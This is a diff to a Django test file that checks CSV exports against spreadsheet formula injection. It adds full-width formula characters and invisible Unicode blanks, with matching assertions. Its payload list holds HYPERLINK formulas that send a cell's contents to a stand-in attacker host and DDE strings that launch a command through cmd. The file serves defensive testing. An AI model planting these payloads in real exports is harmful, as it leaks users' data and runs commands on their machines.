@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import unicodedata
 
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver
@@ -23,10 +24,35 @@ from tests.conftest import client_for
 pytestmark = pytest.mark.django_db
 
 ACCOUNT = "111111111111"
-DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
-# A payload per dangerous start, and the same after leading whitespace.
+# The formula starters, and their full-width forms, which some spreadsheet locales read as them.
+DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+# What a spreadsheet may skip before it looks for a formula: whitespace and the invisible
+# Unicode separators and format characters (Zs, Zl, Zp, Cf).
+BLANKS = [
+    " ",
+    "\n",
+    "\x0b",
+    "\x0c",
+    "\x1c",
+    "\u00a0",
+    "\u3000",
+    *[chr(c) for c in range(0x2000, 0x200B)],  # en quad .. hair space
+    "\u200b",  # zero-width space
+    "\ufeff",  # byte-order mark
+    "\u2028",  # line separator
+    "\u2029",  # paragraph separator
+    "\u202f",
+    "\u205f",
+    "\u2060",  # word joiner
+    "\u200e",  # left-to-right mark
+    "\u202e",  # right-to-left override
+    "\u00ad",  # soft hyphen
+    "\u180e",
+    "\u200b\u00a0\ufeff",  # several of them
+]
+# A payload per dangerous start, and the same after every kind of leading blank.
 PAYLOADS = [f'{c}HYPERLINK("http://evil.example/?"&A1,"x")' for c in DANGEROUS] + [
-    f" {c}cmd|' /C calc'!A0" for c in DANGEROUS
+    f"{blank}{c}cmd|' /C calc'!A0" for blank in BLANKS for c in DANGEROUS
 ]
 
 RULES = parse_rules(
@@ -44,7 +70,14 @@ rules:
 
 
 def spreadsheet_would_run(cell: str) -> bool:
-    return cell.lstrip(" \n").startswith(tuple(DANGEROUS))
+    """Whether the first character a lenient spreadsheet reads (after every leading blank,
+    compatibility forms folded) starts a formula."""
+    for ch in cell:
+        if unicodedata.normalize("NFKC", ch) in ("=", "+", "-", "@", "\t", "\r"):
+            return True
+        if not (ch.isspace() or unicodedata.category(ch) in ("Zs", "Zl", "Zp", "Cf")):
+            return False
+    return False
 
 
 @pytest.fixture
@@ -122,6 +155,10 @@ def test_csv_cells_are_quoted_so_a_separator_cannot_start_a_cell():
     line = list(csv_lines(["h"], [["a,=1+1", "=2", "plain", None, 5]]))[1]
     assert line == '"a,=1+1","\'=2","plain","","5"\r\n'
     assert safe_cell("\u00a0=1") == "'\u00a0=1" and safe_cell("x=1") == "x=1"
+    # OWASP ASVS also names NUL (PostgreSQL cannot store it, so only a caller can pass it).
+    assert safe_cell("\0=1") == "'\0=1"
+    # Harmless text that merely contains blanks or full-width signs later is left alone.
+    assert safe_cell("a\u200b=1") == "a\u200b=1" and safe_cell("x\uff1d1") == "x\uff1d1"
 
 
 # --- every export is audited ---------------------------------------------------------------
